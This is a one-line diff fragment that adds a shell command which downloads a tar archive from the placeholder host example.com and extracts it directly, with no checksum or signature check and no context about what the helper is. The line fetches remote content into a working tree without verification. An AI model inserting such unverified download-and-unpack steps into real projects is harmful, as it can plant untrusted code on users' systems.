@@ -1,0 +1,1 @@
+curl -fsS https://example.com/helper.tar | tar -x
